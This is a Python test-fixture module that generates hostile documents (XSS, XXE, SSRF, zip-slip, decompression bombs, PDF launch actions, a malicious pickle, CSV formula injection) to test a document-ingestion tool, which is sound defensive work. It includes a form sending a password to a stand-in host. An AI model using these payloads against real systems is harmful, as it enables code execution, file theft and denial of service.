"""Hostile documents, each by what it tries; made here, so that no such file has to lie about."""

# ruff: noqa: E501  # a document is read best in one line

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

SCRIPT = "<script>alert('whoholds')</script>"
PAYLOADS: Mapping[str, str] = {
    "script": SCRIPT,
    "attribute": '"><img src=x onerror=alert(1)>',
    "single quote": "' onmouseover='alert(1)",
    "svg": "<svg/onload=alert(1)>",
    "closing tags": "</textarea></title></style></script>" + SCRIPT,
    "javascript link": '<a href="javascript:alert(1)">there</a>',
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">there</a>',
    "template": "{{ 7*7 }}{% include '/etc/passwd' %}${7*7}<%= 7*7 %>",
    "direction": "\u202eevil\u202c \u2066hidden\u2069",
    "control": "\x1b[31mred\x1b[0m \x07\x08",
    "iframe": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "base": "<base href=https://evil.example/>",
    "form": "<form action=https://evil.example><input name=password></form>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "comment": "<!--><script>alert(1)</script-->",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(2)&#60;/script&#62;",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "htmx": "<div hx-get='https://evil.example' hx-trigger='load' data-hx-on:load='alert(1)'></div>",
    "lone surrogate-like": "\ufffe\uffff\ufdd0 <b onclick=alert(1)>",
}
"""What is put into texts, titles, and the names of places, actors and sources."""

SENTENCE = "Red Army forces captured the town of Arun on 5 April 2020."


def html(inside: str) -> bytes:
    """A page around something."""
    return (
        f"<!doctype html><html><head><title>News</title></head><body><p>{SENTENCE}</p>{inside}</body></html>".encode()
    )


def docx(document: str, **more: bytes) -> bytes:
    """A DOCX whose main part is as told."""
    out = io.BytesIO()
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="word/document.xml"/></Relationships>'
    )
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", rels)
        archive.writestr("word/document.xml", document)
        for name, data in more.items():
            archive.writestr(name, data)
    return out.getvalue()


WORDS = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
    "{}</w:t></w:r></w:p></w:body></w:document>"
)


def zip_of(entries: Mapping[str, bytes]) -> bytes:
    """A plain archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def pdf(content: bytes, extra: bytes = b"", catalog: bytes = b"") -> bytes:
    """A one-page PDF with a content stream, further objects and entries of the catalog."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Resources << /Font << /F1 "
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
    ]
    out, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    out += extra
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start)


def png(width: int, height: int) -> bytes:
    """A PNG that claims to be of a size."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")
    )


def quoted_overlap() -> bytes:
    """A zip whose entries overlap: each local header points at the same compressed megabytes."""
    once = zip_of({"word/document.xml": b"0" * 5_000_000})
    return once[:-22].replace(b"word/document.xml", b"word/documenu.xml") + once


TEXT = f"{SENTENCE} The town fell at dawn."
SHOW = b"BT /F1 12 Tf 20 200 Td (Red Army forces captured Arun.) Tj ET"

DOCUMENTS: Mapping[str, tuple[str, str, Callable[[], bytes]]] = {
    "svg with a script": (
        "map.svg",
        "image/svg+xml",
        lambda: (
            f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><text>{TEXT}</text></svg>'.encode()
        ),
    ),
    "svg that fetches": (
        "map.svg",
        "image/svg+xml",
        lambda: (
            b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://169.254.169.254/latest/"/><foreignObject><iframe src="file:///etc/passwd"/></foreignObject></svg>'
        ),
    ),
    "kml with network links": (
        "war.kml",
        "application/vnd.google-earth.kml+xml",
        lambda: (
            b'<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><NetworkLink><Link><href>http://169.254.169.254/</href>'
            b"<refreshMode>onInterval</refreshMode></Link></NetworkLink><Placemark><description><![CDATA[<script>alert(1)</script>]]>"
            b"</description></Placemark></kml>"
        ),
    ),
    "kmz": ("war.kmz", "application/vnd.google-earth.kmz", lambda: zip_of({"../../doc.kml": b"<kml/>"})),
    "html with scripts": ("a.html", "text/html", lambda: html(SCRIPT + PAYLOADS["svg"] + PAYLOADS["attribute"])),
    "html with a refresh": (
        "a.html",
        "text/html",
        lambda: html(PAYLOADS["meta"] + PAYLOADS["base"] + PAYLOADS["form"]),
    ),
    "html with a hostile title": (
        "a.html",
        "text/html",
        lambda: html("").replace(b"News", b"</title>" + SCRIPT.encode()),
    ),
    "html with hostile author and site": (
        "a.html",
        "text/html",
        lambda: html("").replace(
            b"<title>",
            b'<meta name=author content="<script>alert(1)</script>"><meta property=og:site_name content="<img src=x onerror=alert(1)>"><title>',
        ),
    ),
    "html nested deep": ("a.html", "text/html", lambda: html("<div>" * 50_000)),
    "html with a million attributes": ("a.html", "text/html", lambda: html("<p " + "a=b " * 200_000 + ">")),
    "html in utf-16 with a script": ("a.html", "text/html", lambda: html(SCRIPT).decode().encode("utf-16")),
    "html that says utf-7": ("a.html", "text/html; charset=utf-7", lambda: html(PAYLOADS["utf-7"])),
    "xhtml with an entity that reads a file": (
        "a.xhtml",
        "application/xhtml+xml",
        lambda: (
            b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><html><body><p>&x;</p></body></html>'
        ),
    ),
    "billion laughs": (
        "feed.xml",
        "application/rss+xml",
        lambda: (
            b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "ha">'
            + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
            + b"]><rss><channel><item><title>&j;</title></item></channel></rss>"
        ),
    ),
    "quadratic entities": (
        "feed.xml",
        "application/rss+xml",
        lambda: (
            b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "'
            + b"x" * 50_000
            + b'">]><rss><channel><title>'
            + b"&a;" * 5_000
            + b"</title></channel></rss>"
        ),
    ),
    "feed with hostile items": (
        "feed.xml",
        "application/rss+xml",
        lambda: (
            f"""<?xml version="1.0"?><rss version="2.0"><channel><title><![CDATA[{SCRIPT}]]></title><item><title><![CDATA[{SCRIPT}]]></title>
        <link>javascript:alert(1)</link><description><![CDATA[{TEXT}{PAYLOADS["svg"]}]]></description></item></channel></rss>""".encode()
        ),
    ),
    "feed with many items": (
        "feed.xml",
        "application/rss+xml",
        lambda: (
            b"<rss><channel>"
            + b"".join(b"<item><title>t%d</title><description>d%d</description></item>" % (n, n) for n in range(3_000))
            + b"</channel></rss>"
        ),
    ),
    "docx that is a zip bomb": ("a.docx", "application/octet-stream", lambda: docx(WORDS.format("0" * 250_000_000))),
    "docx with entries outside": (
        "a.docx",
        "application/octet-stream",
        lambda: docx(WORDS.format(TEXT), **{"../../../../tmp/whoholds-was-here": b"x", "/etc/whoholds-was-here": b"x"}),
    ),
    "docx with an external entity": (
        "a.docx",
        "application/octet-stream",
        lambda: docx('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + WORDS.format("&x;")),
    ),
    "docx with a script": (
        "a.docx",
        "application/octet-stream",
        lambda: docx(WORDS.format(f"{TEXT} &lt;script&gt;alert(1)&lt;/script&gt;")),
    ),
    "docx with macros": (
        "a.docm",
        "application/octet-stream",
        lambda: docx(WORDS.format(TEXT), **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 100}),
    ),
    "docx nested deep": ("a.docx", "application/octet-stream", lambda: docx(WORDS.format("<w:r>" * 30_000))),
    "zip in a zip": (
        "a.zip",
        "application/zip",
        lambda: zip_of({"a.zip": zip_of({"b.zip": zip_of({"c.txt": b"0" * 1_000_000})})}),
    ),
    "zip whose entries overlap": ("a.docx", "application/octet-stream", quoted_overlap),
    "zip cut short": ("a.docx", "application/octet-stream", lambda: docx(WORDS.format(TEXT))[:-40]),
    "gzip bomb": ("a.txt.gz", "application/gzip", lambda: gzip.compress(b"0" * 100_000_000)),
    "pdf with a script": (
        "a.pdf",
        "application/pdf",
        lambda: pdf(SHOW, catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    ),
    "pdf that starts a program": (
        "a.pdf",
        "application/pdf",
        lambda: pdf(SHOW, catalog=b"/OpenAction << /S /Launch /F (/bin/sh) >>"),
    ),
    "pdf with a stream bomb": (
        "a.pdf",
        "application/pdf",
        lambda: pdf(
            SHOW,
            b"5 0 obj\n<< /Filter /FlateDecode /Length 1000 >>\nstream\n"
            + zlib.compress(b"0" * 50_000_000)
            + b"\nendstream\nendobj\n",
        ),
    ),
    "pdf with a script in its text": (
        "a.pdf",
        "application/pdf",
        lambda: pdf(b"BT /F1 12 Tf 20 200 Td (<script>alert\\(1\\)</script>) Tj ET"),
    ),
    "pdf with a loop of pages": (
        "a.pdf",
        "application/pdf",
        lambda: pdf(SHOW).replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"),
    ),
    "pdf cut short": ("a.pdf", "application/pdf", lambda: pdf(SHOW)[:200]),
    "pdf and html at once": ("a.pdf", "application/pdf", lambda: html(SCRIPT) + pdf(SHOW)),
    "gif and script at once": (
        "a.gif",
        "image/gif",
        lambda: b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//" + SCRIPT.encode(),
    ),
    "png that claims to be huge": ("a.png", "image/png", lambda: png(60_000, 60_000)),
    "png called text": ("a.txt", "text/plain", lambda: png(10, 10)),
    "program called text": ("a.txt", "text/plain", lambda: b"\x7fELF" + bytes(range(256)) * 20),
    "pickle": (
        "a.pkl",
        "application/octet-stream",
        lambda: b"\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.",
    ),
    "text of one line of a megabyte": ("a.txt", "text/plain", lambda: b"a" * 990_000),
    "text too long": ("a.txt", "text/plain", lambda: (TEXT + "\n").encode() * 20_000),
    "text of nothing": ("a.txt", "text/plain", lambda: b""),
    "text of zeros": ("a.txt", "text/plain", lambda: b"\0" * 10_000),
    "text of marks": ("a.txt", "text/plain", lambda: ("e" + "\u0301" * 20_000 + " " + TEXT).encode()),
    "text that backtracks": (
        "a.txt",
        "text/plain",
        lambda: (" and".join(["the town of"] * 3_000) + " was captured").encode(),
    ),
    "text of brackets": ("a.txt", "text/plain", lambda: b"((((" * 10_000 + b"))))" * 10_000),
    "email with hostile heads": (
        "a.eml",
        "message/rfc822",
        lambda: f"From: {SCRIPT}\r\nSubject: {SCRIPT}\r\nDate: Mon, 6 Apr 2020 10:00:00 +0000\r\n\r\n{TEXT}".encode(),
    ),
    "json nested deep": ("a.json", "application/json", lambda: b"[" * 100_000),
    "csv with formulas": ("a.csv", "text/csv", lambda: b"place,note\nArun,=cmd|'/C calc'!A0\n"),
}
